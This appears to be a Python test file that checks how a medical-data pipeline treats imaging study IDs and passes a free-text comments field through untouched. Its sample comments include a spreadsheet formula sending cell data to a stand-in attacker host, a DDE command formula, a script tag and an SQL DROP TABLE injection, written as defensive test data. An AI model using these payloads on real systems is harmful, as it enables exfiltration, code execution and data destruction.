"""Texts, and the comments that no output may hold whatever stands in them."""

from __future__ import annotations

from tests.robustness.operators.table import Operator, group, rejected, same

UID = "diagnosis.imaging_study_uid"  # digits and points
KEPT = "1.2.826.0.1.3680043.10.1561.1001"
COMMENTS = "demographics.comments"  # not read

OPERATORS: tuple[Operator, ...] = group(
    "text",
    same("spaces-around", UID, f"  {KEPT} "),
    same("line-break-behind", UID, KEPT + "\n"),
    same("zero-width-space-inside", UID, KEPT.replace("0.1", "0.\u200b1")),
    same("full-width-digits", UID, KEPT.replace("1561", "１５６１")),
    rejected("space-inside", UID, KEPT.replace("0.1", "0. 1"), "not-an-id"),
    rejected("letters-among-digits", UID, KEPT.replace("0", "O"), "not-an-id", KEPT),
    rejected("too-long", UID, "1." * 40 + "1", "not-an-id"),
    rejected(
        "scientific-number", UID, 1.2e30, "lost-digits", why="Excel took the digits for a number and lost most of them"
    ),
    rejected("number-for-text", UID, 1.2826, "not-an-id"),
    rejected("word", UID, "see PACS", "not-an-id"),
    same("comment-with-a-name", COMMENTS, "Maria Garcia Lopez, 600 123 456, call her daughter"),
    same("comment-that-is-a-formula", COMMENTS, '=HYPERLINK("http://evil.example/?"&A4)'),
    same("comment-with-commands", COMMENTS, "=cmd|' /C calc'!A0"),
    same("comment-with-emoji", COMMENTS, "👩‍⚕️ ok 👍🏽 \U0001f9ec"),
    same("comment-right-to-left", COMMENTS, "\u202eמטופלת\u202c"),
    same("comment-with-control-characters", COMMENTS, "bell\x07 escape\x1b[31m"),
    same("comment-with-html", COMMENTS, "<script>alert(1)</script>"),
    same("comment-with-sql", COMMENTS, "'); DROP TABLE person; --"),
    same("comment-with-json", COMMENTS, '"},{"resourceType":"Patient"'),
    same("comment-as-long-as-excel-allows", COMMENTS, "x" * 32767),
    same("comment-on-many-lines", COMMENTS, "first\r\nsecond\r\nthird"),
    same("comment-that-is-a-number", COMMENTS, 4711),
)
